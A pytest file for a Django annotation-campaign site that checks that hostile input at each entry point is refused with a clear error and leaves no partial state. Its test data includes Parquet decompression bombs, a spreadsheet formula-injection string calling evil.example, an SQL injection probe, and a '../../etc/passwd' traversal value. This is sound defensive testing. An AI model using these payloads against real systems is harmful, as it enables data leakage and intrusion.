"""Hostile input at every entry point: a clear 4xx (or CLI error) and no partial state.

Uploads (too large, other encodings, binary garbage, malformed JSON, Parquet decompression
bombs, rows past the row cap in every format), request bodies past the site's cap, CSV
exports opened in a spreadsheet, the JSON API's parameters and errors, junk on the
live-progress websocket, forged or malformed Argilla webhook deliveries, and form fields
with NUL characters, overlong or out-of-range values.
"""

from __future__ import annotations

import base64
import csv
import json
import re
import tracemalloc
import uuid
from collections.abc import Callable
from datetime import UTC, datetime

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from asgiref.sync import async_to_sync
from channels.layers import get_channel_layer
from channels.testing import HttpCommunicator, WebsocketCommunicator
from django.contrib.auth.models import Permission
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import CommandError, call_command
from django.urls import reverse
from standardwebhooks import Webhook

from annotation.argilla.models import (
    ArgillaAnswerProblem,
    ArgillaDatasetLink,
    ArgillaWebhook,
    WebhookDelivery,
)
from annotation.models import Response
from annotation.services import response_submit
from campaigns.importers.sources import Source, source_rows
from campaigns.models import Campaign, ImportRun, Record
from campaigns.services import campaign_create
from dashboards.groups import campaign_progress_group
from dashboards.rooms import room_size
from leaderboard.export.services import campaign_export
from leaderboard.export.spreadsheet import cell_neutralise
from somos_site.accounts.models import Profile
from somos_site.asgi import application
from tests.factories import UserFactory

pytestmark = pytest.mark.django_db

MAPPING = {"id": "id", "pairs": [["en", "es"]], "metadata": []}
ENGLISH = {"HTTP_ACCEPT_LANGUAGE": "en"}
WEBHOOK_SECRET = base64.b64encode(b"h" * 32).decode()


# --------------------------------------------------------------------------------------------
# Hostile files


def _parquet(table: pa.Table, **options) -> bytes:
    sink = pa.BufferOutputStream()
    pq.write_table(table, sink, **options)
    return sink.getvalue().to_pybytes()


def _repeated(value: str, rows: int) -> pa.Array:
    """A column where every row is value, dictionary-encoded: tiny in the file."""
    return pa.DictionaryArray.from_arrays(pa.array([0] * rows, pa.int32()), pa.array([value]))


def _rows_table(rows: int, text: pa.Array | None = None) -> pa.Table:
    return pa.table(
        {
            "id": pa.array([str(number) for number in range(rows)]),
            "en": text if text is not None else pa.array(["Hello"] * rows),
            "es": pa.array(["Hola"] * rows),
        }
    )


def _jsonl(*rows: dict) -> bytes:
    return b"".join(json.dumps(row).encode() + b"\n" for row in rows)


ROW = {"id": "1", "en": "Hello", "es": "Hola"}

# name → (file bytes, expected text of the problem, settings to lower for the case)
HOSTILE_FILES: dict[str, tuple[Callable[[], bytes], str, dict]] = {
    "utf16.csv": (
        lambda: "id,en,es\n1,Hello,Hola\n".encode("utf-16"),
        "utf16.csv: the file is UTF-16 text; save it as UTF-8",
        {},
    ),
    "latin1.csv": (
        lambda: b"id,en,es\n1,Hello,Hola\n" + "2,Song,Canción\n".encode("latin-1"),
        "latin1.csv, row 2: not valid UTF-8 (byte 0xf3 at position 13)",
        {},
    ),
    "latin1.jsonl": (
        lambda: _jsonl(ROW) + '{"id": "2", "en": "Song", "es": "Canción"}\n'.encode("latin-1"),
        "latin1.jsonl, row 2: not valid UTF-8 (byte 0xf3",
        {},
    ),
    "utf16-unmarked.csv": (
        lambda: "id,en,es\n1,Hello,Hola\n".encode("utf-16-le"),
        "utf16-unmarked.csv: binary data or UTF-16 text, not UTF-8 (a NUL byte at byte 2)",
        {},
    ),
    "noise.jsonl": (
        lambda: bytes(range(256)) * 8,
        "noise.jsonl, row 2: not valid UTF-8 (byte 0x80 at position 118)",
        {},
    ),
    "high-bytes.jsonl": (
        lambda: bytes(range(128, 256)) * 8,
        "high-bytes.jsonl, row 1: not valid UTF-8 (byte 0x80 at position 1)",
        {},
    ),
    "workbook.csv": (
        lambda: b"PK\x03\x04\x14\x00\x06\x00" + b"[Content_Types].xml" * 20,
        "workbook.csv: this is a ZIP (.zip, .xlsx, .ods) file, not text",
        {},
    ),
    "nested.jsonl": (
        lambda: b"[" * 200_000 + b"\n",
        "nested.jsonl, row 1: the JSON is nested too deeply",
        {},
    ),
    "cut.jsonl": (
        lambda: _jsonl(ROW) + b'{"id": "2", "en": "Hel\n' + _jsonl(dict(ROW, id="3")),
        "cut.jsonl, row 2: invalid JSON at column",
        {},
    ),
    "surrogate.jsonl": (
        lambda: b'{"id": "1", "en": "Hello", "es": "Hola \\ud800"}\n',
        "surrogate.jsonl, row 1, field «es»: the text holds half of a surrogate pair",
        {},
    ),
    "nul-escape.jsonl": (
        lambda: _jsonl(ROW, dict(ROW, id="2", notes={"tags": ["a\x00b"]})),
        "nul-escape.jsonl, row 2, field «notes»: the text contains a NUL character",
        {},
    ),
    "late-nul.csv": (
        # Past the first bytes that are sniffed for binary data, in a column nobody maps.
        lambda: (
            b"id,en,es,notes\n"
            + b"".join(b"%d,Hello,Hola,ok\n" % number for number in range(1, 2000))
            + b"2000,Hello,Hola,a\x00b\n"
        ),
        "late-nul.csv, row 2000, field «notes»: the text contains a NUL character",
        {},
    ),
    "nul.parquet": (
        lambda: _parquet(_rows_table(3).append_column("notes", pa.array(["", "", "x\x00"]))),
        "nul.parquet, row 3, field «notes»: the text contains a NUL character",
        {},
    ),
    "endless.jsonl": (
        lambda: _jsonl(ROW) + b'{"id": "2", "en": "' + b"a" * 5000,
        "endless.jsonl, row 2: the line is longer than 1000",
        {"SOMOS_IMPORT_MAX_ROW_BYTES": 1000},
    ),
    "many.jsonl": (
        lambda: _jsonl(*(dict(ROW, id=str(number)) for number in range(10))),
        "many.jsonl: more than 3 rows, the most one import takes",
        {"SOMOS_IMPORT_MAX_ROWS": 3},
    ),
    "array.json": (
        lambda: json.dumps([dict(ROW, id=str(number)) for number in range(100)]).encode(),
        "array.json: a JSON array is read whole",
        {"SOMOS_IMPORT_MAX_JSON_ARRAY_BYTES": 1000},
    ),
    "wide-row.parquet": (
        # 20 MB in one row, a few KB in the file.
        lambda: _parquet(_rows_table(1, _repeated("a" * 20 * 2**20, 1)), compression="zstd"),
        "wide-row.parquet, row 1: the row takes 20.0 MB once decoded; a row may take 16.0 MB",
        {},
    ),
    "dictionary-bomb.parquet": (
        # Its footer declares a few KB; decoded, 5000 rows of 1 KB each.
        lambda: _parquet(_rows_table(5000, _repeated("b" * 1024, 5000))),
        "dictionary-bomb.parquet: its data decodes to more than the 1.0 MB an import reads",
        {"SOMOS_IMPORT_MAX_DATA_BYTES": 2**20},
    ),
    "compressed-bomb.parquet": (
        lambda: _parquet(
            _rows_table(1, pa.array(["c" * 2 * 2**20])), use_dictionary=False, compression="zstd"
        ),
        "compressed-bomb.parquet: its data decompresses to 2.0 MB, more than the 1.0 MB",
        {"SOMOS_IMPORT_MAX_DATA_BYTES": 2**20},
    ),
    "rows.parquet": (
        lambda: _parquet(_rows_table(500)),
        "rows.parquet: more than 100 rows, the most one import takes",
        {"SOMOS_IMPORT_MAX_ROWS": 100},
    ),
    "truncated.parquet": (
        lambda: _parquet(_rows_table(50))[:200],
        "truncated.parquet: not a readable Parquet file",
        {},
    ),
    # The row cap holds whatever the format: a JSON array's item, a CSV row spread over
    # many short lines (a quoted value may hold line breaks).
    "wide-row.json": (
        lambda: json.dumps([ROW, dict(ROW, id="2", en="a" * 5000)]).encode(),
        "wide-row.json, row 2: the row takes 4.9 KB; a row may take 1000 bytes",
        {"SOMOS_IMPORT_MAX_ROW_BYTES": 1000},
    ),
    "wide-unicode-row.json": (
        # 400 characters, but 1600 bytes of UTF-8 as JSON Lines would count them.
        lambda: json.dumps([dict(ROW, en="🙂" * 400)], ensure_ascii=False).encode(),
        "wide-unicode-row.json, row 1: the row takes 1.6 KB; a row may take 1000 bytes",
        {"SOMOS_IMPORT_MAX_ROW_BYTES": 1000},
    ),
    "multiline-row.csv": (
        lambda: b'id,en,es\n1,Hello,Hola\n2,"' + b"line\n" * 500 + b'",Hola\n',
        "multiline-row.csv, row 2: the row takes",
        {"SOMOS_IMPORT_MAX_ROW_BYTES": 1000},
    ),
    "long-value.csv": (
        # Past the csv module's own 128 KB cap on a value, within the row cap: imported.
        lambda: b"id,en,es\n1," + b"a" * 200_000 + b",Hola\n",
        "",
        {},
    ),
}


@pytest.fixture
def creator():
    user = UserFactory()
    user.user_permissions.add(Permission.objects.get(codename="add_campaign"))
    return user


@pytest.fixture
def phrases(organizer) -> Campaign:
    """A generic campaign with one record already imported."""
    campaign = campaign_create(
        slug="frases",
        name="Frases",
        preset="generic",
        organizers=[organizer],
        field_mapping=MAPPING,
    )
    Record.objects.create(
        campaign=campaign,
        external_id="0",
        fields=[{"name": "es", "source": "Hi", "translation": "Hola"}],
    )
    return campaign


def _text(message: str) -> str:
    """Return message with the no-break spaces of file sizes ("1.0\xa0MB") made plain."""
    return message.replace("\xa0", " ")


def _import(client, campaign: Campaign, name: str, content: bytes):
    return client.post(
        reverse("campaign_import", args=[campaign.slug]),
        {"source_file": SimpleUploadedFile(name, content)},
        **ENGLISH,
    )


@pytest.mark.parametrize("name", [name for name, case in HOSTILE_FILES.items() if case[1]])
def test_upload_hostile_file_gets_400_naming_the_problem_and_imports_nothing(
    client, settings, organizer, phrases, name
):
    make, expected, limits = HOSTILE_FILES[name]
    for setting, value in limits.items():
        setattr(settings, setting, value)
    client.force_login(organizer)

    response = _import(client, phrases, name, make())

    assert response.status_code == 400
    assert expected in _text(response.content.decode())
    assert list(phrases.records.values_list("external_id", flat=True)) == ["0"]
    run = phrases.import_runs.get()
    assert run.status == ImportRun.Status.FAILED
    assert (run.records_created, run.records_updated) == (0, 0)
    assert any(_text(error).startswith(expected) for error in run.errors), run.errors


def test_upload_hostile_file_to_a_new_campaign_creates_nothing(client, creator):
    client.force_login(creator)
    make, expected, _limits = HOSTILE_FILES["latin1.csv"]
    response = client.post(
        reverse("campaign_new"),
        {
            "name": "Frases",
            "preset": "generic",
            "overlap": 2,
            "source_language": "en",
            "target_language": "es",
            "source_file": SimpleUploadedFile("latin1.csv", make()),
            "id_column": "id",
            "pairs": "en = es",
        },
        **ENGLISH,
    )
    assert response.status_code == 400
    assert expected in response.content.decode()
    assert "no campaign was created" in response.content.decode()
    assert not Campaign.objects.exists()
    assert not ImportRun.objects.exists()
    assert not Record.objects.exists()


def test_upload_csv_value_longer_than_the_csv_module_cap_is_imported(client, organizer, phrases):
    client.force_login(organizer)
    response = _import(client, phrases, "long-value.csv", HOSTILE_FILES["long-value.csv"][0]())
    assert response.status_code == 302
    assert phrases.records.get(external_id="1").fields[0]["source"] == "a" * 200_000


def test_import_json_array_refuses_a_wide_row_from_the_cli(tmp_path, settings, phrases):
    settings.SOMOS_IMPORT_MAX_ROW_BYTES = 1000
    path = tmp_path / "wide.json"
    path.write_bytes(HOSTILE_FILES["wide-row.json"][0]())
    with pytest.raises(CommandError, match=re.escape("wide.json, row 2: the row takes")):
        call_command(
            "import_campaign",
            "--slug",
            phrases.slug,
            "--preset",
            "generic",
            "--source",
            str(path),
            "--mapping",
            json.dumps(MAPPING),
            "--locale",
            "en",
        )
    assert phrases.records.count() == 1


def test_upload_over_the_size_limit_gets_413_and_creates_nothing(client, settings, creator):
    settings.SOMOS_MAX_UPLOAD_BYTES = 2**20
    client.force_login(creator)
    response = client.post(
        reverse("campaign_new"),
        {
            "name": "Grande",
            "preset": "dibt_prompts",
            "overlap": 2,
            "source_language": "en",
            "target_language": "es",
            "source_file": SimpleUploadedFile("big.jsonl", _jsonl(ROW) * 60_000),
        },
        **ENGLISH,
    )
    assert response.status_code == 413
    assert "The file is larger than 1 MB." in response.content.decode()
    assert not Campaign.objects.exists()
    assert not ImportRun.objects.exists()


def test_upload_over_the_size_limit_into_a_campaign_gets_413(client, settings, organizer, phrases):
    settings.SOMOS_MAX_UPLOAD_BYTES = 2**20
    client.force_login(organizer)
    response = _import(client, phrases, "big.jsonl", _jsonl(ROW) * 60_000)
    assert response.status_code == 413
    assert "The file is larger than 1 MB." in response.content.decode()
    assert phrases.records.count() == 1
    assert not phrases.import_runs.exists()


def test_import_cli_refuses_a_parquet_bomb_and_stores_nothing(tmp_path, settings, phrases):
    settings.SOMOS_IMPORT_MAX_DATA_BYTES = 2**20
    path = tmp_path / "bomb.parquet"
    path.write_bytes(HOSTILE_FILES["dictionary-bomb.parquet"][0]())
    with pytest.raises(
        CommandError, match=re.escape("bomb.parquet: its data decodes to more than")
    ):
        call_command(
            "import_campaign",
            "--slug",
            phrases.slug,
            "--preset",
            "generic",
            "--source",
            str(path),
            "--mapping",
            json.dumps(MAPPING),
        )
    assert phrases.records.count() == 1
    assert phrases.import_runs.get().status == ImportRun.Status.FAILED


def test_parquet_wide_rows_become_python_objects_in_bounded_slices(tmp_path):
    # 300 rows of 1 MB each once decoded: 300 MB if a whole batch were converted at once.
    path = tmp_path / "wide.parquet"
    path.write_bytes(_parquet(_rows_table(300, _repeated("w" * 2**20, 300))))
    tracemalloc.start()
    try:
        count = sum(1 for _ in source_rows(Source(path)))
        _current, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert count == 300
    assert peak < 120 * 2**20


# --------------------------------------------------------------------------------------------
# Request bodies past the site's cap (the ASGI application, as daphne runs it)


async def _http(method: str, path: str, body: bytes, headers: list[tuple[bytes, bytes]]):
    communicator = HttpCommunicator(application, method, path, body=body, headers=headers)
    return await communicator.get_response(timeout=10)


@pytest.mark.django_db(transaction=True)
def test_request_body_declared_over_the_cap_gets_413_unread(settings):
    settings.SOMOS_MAX_REQUEST_BYTES = 10_000
    response = async_to_sync(_http)(
        "POST",
        "/organize/new/",
        b"",
        [(b"host", b"localhost"), (b"content-length", b"5000000000")],
    )
    assert response["status"] == 413
    assert (b"content-type", b"text/plain; charset=utf-8") in response["headers"]
    # The limit in the message, formatted for the site's default language (Spanish).
    assert "9,8 KB" in _text(response["body"].decode())


@pytest.mark.django_db(transaction=True)
def test_request_body_without_length_is_cut_off_at_the_cap(settings):
    settings.SOMOS_MAX_REQUEST_BYTES = 10_000
    response = async_to_sync(_http)(
        "POST", "/argilla/webhook/", b"x" * 20_000, [(b"host", b"localhost")]
    )
    assert response["status"] == 413
    assert not WebhookDelivery.objects.exists()


@pytest.mark.django_db(transaction=True)
def test_request_body_under_the_cap_reaches_django(settings):
    settings.SOMOS_MAX_REQUEST_BYTES = 10_000
    response = async_to_sync(_http)(
        "POST",
        "/argilla/webhook/",
        b"{}",
        [(b"host", b"localhost"), (b"content-length", b"2")],
    )
    # Django answered: an unsigned delivery is refused by the webhook itself.
    assert response["status"] == 401


# --------------------------------------------------------------------------------------------
# CSV exports opened in a spreadsheet


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ('=HYPERLINK("http://evil","x")', '\'=HYPERLINK("http://evil","x")'),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Hola = hello", "Hola = hello"),
        ("", ""),
        (None, ""),
        (3, "3"),
        (["=a", "b"], '["=a","b"]'),
    ],
)
def test_cell_neutralise_quotes_only_what_a_spreadsheet_would_run(value, cell):
    assert cell_neutralise(value) == cell


def _csv(path) -> list[dict]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.DictReader(handle))


def test_export_csv_neutralises_formulas_but_harness_files_keep_the_text(tmp_path, arc_campaign):
    record = arc_campaign.records.order_by("id").first()
    formula = '=HYPERLINK("http://evil.example/?"&A1,"ver")'
    record.fields[0]["translation"] = formula
    record.save()
    volunteer = UserFactory()
    Profile.objects.create(user=volunteer, display_name="@SUM(1+1)*cmd", public_ranking=True)
    response_submit(record=record, user=volunteer, values={"verdict": "correct"})

    folder = tmp_path / "export"
    campaign_export(campaign=arc_campaign, folder=folder, include="pending")

    spreadsheet = {row["id"]: row for row in _csv(folder / "spreadsheet" / "validation.csv")}
    assert spreadsheet[record.external_id]["instruction"] == "'" + formula
    jsonl = {
        row["id"]: row
        for row in map(json.loads, (folder / "data" / "validation.jsonl").read_text().splitlines())
    }
    assert jsonl[record.external_id]["instruction"] == formula
    parquet = pq.read_table(folder / "data" / "validation.parquet").to_pylist()
    assert {row["id"]: row for row in parquet}[record.external_id]["instruction"] == formula

    answers = _csv(folder / "spreadsheet" / "responses.csv")
    assert [row["contributor"] for row in answers] == ["'@SUM(1+1)*cmd"]
    stored = pq.read_table(folder / "responses" / "train.parquet").to_pylist()
    assert [row["contributor"] for row in stored] == ["@SUM(1+1)*cmd"]


# --------------------------------------------------------------------------------------------
# JSON endpoints


@pytest.mark.parametrize(
    "query",
    [
        {"window": ""},
        {"window": "week"},
        {"window": "7D"},
        {"window": "all\x00"},
        {"window": "x" * 5000},
        {"window": "30d' OR '1'='1"},
        {"window": ["all", "forever"]},
    ],
)
def test_api_ranking_refuses_bad_windows_with_400(client, arc_campaign, query):
    response = client.get(reverse("api_ranking", args=[arc_campaign.slug]), query, **ENGLISH)
    assert response.status_code == 400
    assert response.json() == {"error": "window must be one of: all, 7d, 30d"}


def test_api_progress_ignores_unknown_parameters(client, arc_campaign):
    response = client.get(
        reverse("api_progress", args=[arc_campaign.slug]),
        {"window": "<script>", "callback": "alert", "format": "\x00"},
    )
    assert response.status_code == 200
    assert response.json()["records_total"] == 25


@pytest.mark.parametrize("name", ["api_progress", "api_ranking"])
def test_api_refuses_writes_and_unknown_campaigns_in_json(client, arc_campaign, name):
    refused = client.post(reverse(name, args=[arc_campaign.slug]), **ENGLISH)
    assert refused.status_code == 405
    assert refused["Content-Type"] == "application/json"
    assert refused["Allow"] == "GET"
    assert refused.json() == {"error": "This address does not take this method."}
    unknown = client.get(reverse(name, args=["no-such-campaign"]), **ENGLISH)
    assert unknown.status_code == 404
    assert unknown.json() == {"error": "No such campaign."}


@pytest.mark.parametrize("name", ["api_progress", "api_ranking"])
def test_api_answers_a_hidden_campaign_as_an_unknown_one(client, name):
    draft = campaign_create(slug="borrador", name="Borrador", preset="okapi_arc")
    hidden = client.get(reverse(name, args=[draft.slug]), **ENGLISH)
    assert hidden.status_code == 404
    assert hidden.json() == {"error": "No such campaign."}


def test_api_unknown_address_answers_json_in_the_visitors_language(client):
    response = client.get("/api/campaigns/", HTTP_ACCEPT_LANGUAGE="es")
    assert response.status_code == 404
    assert response["Content-Type"] == "application/json"
    assert response.json() == {"error": "No encontrado."}


# --------------------------------------------------------------------------------------------
# The live-progress websocket


def _viewer(slug: str) -> WebsocketCommunicator:
    return WebsocketCommunicator(
        application, f"/ws/campaigns/{slug}/progress/", headers=[(b"origin", b"http://localhost")]
    )


async def _junk_then_broadcast(slug: str) -> tuple[bool, dict]:
    viewer = _viewer(slug)
    connected, _ = await viewer.connect()
    assert connected
    await viewer.receive_json_from(timeout=5)
    # The campaign's import may still be telling viewers about itself: let that pass first.
    while not await viewer.receive_nothing(timeout=0.5):
        await viewer.receive_json_from(timeout=1)
    await viewer.send_to(text_data="not json at all {")
    await viewer.send_to(bytes_data=b"\x00\xff\xfe binary")
    await viewer.send_to(text_data='{"type": "progress.update", "progress": {"forged": true}}')
    await viewer.send_to(text_data="[]")
    # Nothing comes back: junk is neither answered nor forwarded as if it were an update.
    silent = await viewer.receive_nothing(timeout=0.5)
    await get_channel_layer().group_send(
        campaign_progress_group(slug),
        {"type": "progress.update", "progress_json": '{"real": true}'},
    )
    message = await viewer.receive_json_from(timeout=5)
    await viewer.disconnect()
    return silent, message


@pytest.mark.django_db(transaction=True)
def test_live_progress_ignores_junk_frames_and_keeps_serving(arc_campaign):
    silent, message = async_to_sync(_junk_then_broadcast)(arc_campaign.slug)
    assert silent
    assert message == {"real": True}


def _group_size(slug: str) -> int:
    # Each web process keeps its own viewers of a campaign (dashboards/rooms.py).
    return room_size(campaign_progress_group(slug))


async def _oversized(slug: str) -> tuple[dict, list[int]]:
    sizes = [_group_size(slug)]
    viewer = _viewer(slug)
    connected, _ = await viewer.connect()
    assert connected
    await viewer.receive_json_from(timeout=5)
    sizes.append(_group_size(slug))
    await viewer.send_to(text_data="x" * 100_000)
    closed = await viewer.receive_output(timeout=5)
    await viewer.disconnect()
    sizes.append(_group_size(slug))
    return closed, sizes


@pytest.mark.django_db(transaction=True)
def test_live_progress_closes_on_oversized_frames_and_leaves_its_group(arc_campaign):
    closed, (before, connected, after) = async_to_sync(_oversized)(arc_campaign.slug)
    assert closed == {"type": "websocket.close", "code": 1009}
    assert (connected, after) == (before + 1, before)


# --------------------------------------------------------------------------------------------
# Argilla webhook deliveries


@pytest.fixture
def linked(arc_campaign) -> ArgillaDatasetLink:
    ArgillaWebhook.objects.create(argilla_id=uuid.uuid4(), url="http://x/", secret=WEBHOOK_SECRET)
    return ArgillaDatasetLink.objects.create(
        campaign=arc_campaign, workspace_id=uuid.uuid4(), dataset_id=uuid.uuid4()
    )


def _event(link: ArgillaDatasetLink, **data) -> dict:
    record = link.campaign.records.order_by("id").first()
    now = datetime.now(UTC).replace(tzinfo=None).isoformat()
    body = {
        "id": str(uuid.uuid4()),
        "values": {"verdict": {"value": "correct"}},
        "status": "submitted",
        "record": {
            "id": str(uuid.uuid4()),
            "external_id": record.external_id,
            "dataset": {"id": str(link.dataset_id)},
        },
        "user": {"id": str(uuid.uuid4()), "username": "hook-user"},
        "inserted_at": now,
        "updated_at": now,
    }
    body.update(data)
    return {"type": "response.created", "version": 1, "timestamp": now + "Z", "data": body}


def _signed(body: bytes) -> dict:
    message_id = f"msg_{uuid.uuid4().hex}"
    now = datetime.now(UTC)
    return {
        "HTTP_WEBHOOK_ID": message_id,
        "HTTP_WEBHOOK_TIMESTAMP": str(int(now.timestamp())),
        "HTTP_WEBHOOK_SIGNATURE": Webhook(WEBHOOK_SECRET).sign(message_id, now, body.decode()),
    }


def _deliver(client, body: bytes, headers: dict):
    return client.post("/argilla/webhook/", data=body, content_type="application/json", **headers)


def _nothing_written() -> bool:
    return not (WebhookDelivery.objects.exists() or Response.objects.exists())


@pytest.mark.parametrize(
    "body",
    [b"", b"not json", b"\xff\xfe\x00\x01 binary", b"[]", b'{"type": "response.created"}'],
)
def test_webhook_unsigned_bodies_get_401_and_write_nothing(client, linked, body):
    response = _deliver(client, body, {})
    assert response.status_code == 401
    assert _nothing_written()


@pytest.mark.parametrize(
    "signature",
    ["junk", "v1,@@@ not base64 @@@", "v1", "v1,a,b", "v2,abc v1,"],
)
def test_webhook_malformed_signature_headers_get_401(client, linked, signature):
    body = json.dumps(_event(linked)).encode()
    headers = dict(_signed(body), HTTP_WEBHOOK_SIGNATURE=signature)
    assert _deliver(client, body, headers).status_code == 401
    assert _deliver(client, body, dict(headers, HTTP_WEBHOOK_TIMESTAMP="nan")).status_code == 401
    assert _nothing_written()


def test_webhook_signed_body_that_is_not_utf8_gets_401(client, linked):
    body = b'{"type": "response.created", "x": "\xff"}'
    headers = _signed(body.decode("latin-1").encode())
    assert _deliver(client, body, headers).status_code == 401
    assert _nothing_written()


MALFORMED_EVENTS: dict[str, Callable[[ArgillaDatasetLink], object]] = {
    "not JSON": lambda link: "{not json",
    "an array": lambda link: [_event(link)],
    "data is text": lambda link: {"type": "response.created", "data": "x"},
    "dataset id is no UUID": lambda link: _event(
        link, record={"id": str(uuid.uuid4()), "dataset": {"id": "nope"}, "external_id": "x"}
    ),
    "external id is a number": lambda link: _event(
        link,
        record={"id": str(uuid.uuid4()), "dataset": {"id": str(link.dataset_id)}, "external_id": 7},
    ),
    "user is text": lambda link: _event(link, user="hook-user"),
    "values are a list": lambda link: _event(link, values=["correct"]),
    "updated_at is a number": lambda link: _event(link, updated_at=12),
    "username with NUL": lambda link: _event(
        link, user={"id": str(uuid.uuid4()), "username": "hook\x00user"}
    ),
    "record.completed without record": lambda link: {
        "type": "record.completed",
        "data": {"dataset": {"id": str(link.dataset_id)}},
    },
}


@pytest.mark.parametrize("case", list(MALFORMED_EVENTS))
def test_webhook_signed_but_malformed_gets_400_and_writes_nothing(client, linked, case):
    payload = MALFORMED_EVENTS[case](linked)
    body = (payload if isinstance(payload, str) else json.dumps(payload)).encode()
    response = _deliver(client, body, _signed(body))
    assert response.status_code == 400
    assert response.json()["detail"].startswith("malformed: ")
    assert _nothing_written()


def test_webhook_answer_with_nul_is_kept_pending_without_storing_it(client, linked):
    body = json.dumps(
        _event(
            linked,
            values={
                "verdict": {"value": "minor_fixes"},
                "question_corrected": {"value": "Texto\x00con NUL"},
            },
        )
    ).encode()
    response = _deliver(client, body, _signed(body))
    assert response.status_code == 200
    # Not stored as an answer, but kept where organizers see it (and the next pull retries it).
    assert response.json()["detail"].startswith("pending: ")
    assert not Response.objects.exists()
    assert WebhookDelivery.objects.get().status == WebhookDelivery.Status.PENDING
    assert ArgillaAnswerProblem.objects.get().kind == ArgillaAnswerProblem.Kind.PENDING


def test_webhook_huge_body_gets_413_unread(client, linked):
    body = b"x" * (3 * 2**20)
    response = _deliver(client, body, _signed(b"{}"))
    assert response.status_code == 413
    assert _nothing_written()


def test_webhook_refuses_other_methods(client, linked):
    assert client.get("/argilla/webhook/").status_code == 405
    assert client.put("/argilla/webhook/", data=b"{}").status_code == 405


# --------------------------------------------------------------------------------------------
# Forms


def _new_campaign(client, **overrides):
    data = {
        "name": "Frases",
        "preset": "generic",
        "overlap": 2,
        "source_language": "en",
        "target_language": "es",
        "source_file": SimpleUploadedFile("f.csv", b"id,en,es\n1,Hello,Hola\n"),
        "id_column": "id",
        "pairs": "en = es",
    }
    data.update(overrides)
    return client.post(reverse("campaign_new"), data, **ENGLISH)


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("name", "Frases\x00"),
        ("name", "F" * 201),
        ("id_column", "id\x00"),
        ("pairs", "en" + " " * 3000 + "x"),
        ("overlap", "99999999999999999999"),
        ("overlap", "-1"),
        ("preset", "../../etc/passwd"),
        ("slug", "no slug!"),
        ("hub_name", "a/b/c/d"),
    ],
)
def test_campaign_form_refuses_hostile_fields_with_400(client, creator, field, value):
    client.force_login(creator)
    response = _new_campaign(client, **{field: value})
    assert response.status_code == 400
    assert field in response.context["form"].errors
    assert not Campaign.objects.exists()


def test_campaign_settings_refuses_bad_values_with_400(client, organizer, arc_campaign):
    client.force_login(organizer)
    response = client.post(
        reverse("campaign_settings", args=[arc_campaign.slug]),
        {
            "name": "ARC\x00",
            "overlap": 0,
            "source_language": "en",
            "target_language": "es",
            "questions-TOTAL_FORMS": 0,
            "questions-INITIAL_FORMS": 0,
        },
    )
    assert response.status_code == 400
    arc_campaign.refresh_from_db()
    assert (arc_campaign.name, arc_campaign.overlap) == ("ARC test", 2)


@pytest.mark.parametrize("overlap", ["0", "21", "32767", "999999999999"])
def test_campaign_settings_take_the_overlaps_the_create_form_takes(
    client, organizer, arc_campaign, overlap
):
    client.force_login(organizer)
    response = client.post(
        reverse("campaign_settings", args=[arc_campaign.slug]),
        {
            "name": "ARC",
            "overlap": overlap,
            "source_language": "en",
            "target_language": "es",
            "is_public": "on",
            "questions-TOTAL_FORMS": 0,
            "questions-INITIAL_FORMS": 0,
        },
        **ENGLISH,
    )
    assert response.status_code == 400
    assert "overlap" in response.context["form"].errors
    arc_campaign.refresh_from_db()
    assert (arc_campaign.name, arc_campaign.overlap) == ("ARC test", 2)
    # The public dashboard still answers (an overlap in the billions overflowed its dates).
    assert client.get(reverse("campaign_dashboard", args=[arc_campaign.slug])).status_code == 200


@pytest.mark.parametrize("correction", ["Texto\x00con NUL", "x" * 20_001], ids=["nul", "overlong"])
def test_annotate_submit_refuses_hostile_text_with_400(client, arc_campaign, volunteer, correction):
    client.force_login(volunteer)
    record = client.get(reverse("annotate", args=[arc_campaign.slug])).context["record"]
    response = client.post(
        reverse("annotate_record", args=[arc_campaign.slug, record.pk]),
        {"action": "submit", "verdict": "minor_fixes", "question_corrected": correction},
    )
    assert response.status_code == 400
    assert "question_corrected" in response.context["errors"]
    assert not Response.objects.exists()
